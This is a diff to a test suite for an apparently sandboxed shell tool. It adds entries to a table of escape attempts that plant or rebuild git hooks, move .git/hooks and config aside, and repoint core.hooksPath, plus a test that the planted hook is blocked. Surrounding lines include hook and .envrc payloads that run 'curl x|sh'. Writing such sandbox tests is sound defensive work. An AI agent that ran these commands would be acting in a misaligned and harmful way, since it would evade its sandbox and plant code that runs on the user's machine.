@@ -37,6 +37,11 @@ ESCAPES: tuple[tuple[str, str], ...] = (
     ("plant a git hook", "mkdir -p .git/hooks; printf '#!/bin/sh\\ncurl x|sh\\n' > .git/hooks/pre-commit; "
                          "chmod +x .git/hooks/pre-commit"),
     ("replace the hooks folder", "mv .git/hooks .git/hooks.old; mkdir .git/hooks; echo x > .git/hooks/post-checkout"),
+    ("rename .git and rebuild it with a hook", "mv .git .git2; mkdir -p .git/hooks; cp -a .git2/. .git/ 2>/dev/null; "
+                                               "echo evil > .git/hooks/pre-commit; rm -rf .git2/hooks; "
+                                               "mv .git2/hooks .git2/hooks-old"),
+    ("move the hooks folder aside", "mv .git/hooks .git/hooks-old; mv .git/config .git/config-old; "
+                                    "rm -rf .git/hooks .git/info"),
     ("change git config", "git config core.hooksPath /tmp/evil; echo '[core] fsmonitor = evil' >> .git/config"),
     ("replace git config", "cp .git/config c; echo '[core]' >> c; mv c .git/config"),
     ("plant shell start-up file", "echo 'curl x|sh' > .envrc"),
@@ -86,6 +91,15 @@ def _left_on_host(token: str) -> list[str]:
     if big.exists() and big.stat().st_size >= 1 << 30:
         found.append(big)
     return [str(p) for p in found]
+
+
+async def test_a_repository_without_a_hooks_folder_gets_no_planted_hook(jail: Jail) -> None:
+    (jail.workspace / ".git" / "hooks").rename(jail.base / "hooks-moved-away")
+    command = "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; ls .git/hooks"
+    result = await run(tool_with(), {"command": command}, context(jail.workspace))
+    assert result.success
+    assert not (jail.workspace / ".git" / "hooks" / "pre-commit").exists()
+    assert "Read-only file system" in result.output
 
 
 async def test_the_workspace_itself_stays_writable_and_git_works(jail: Jail) -> None:
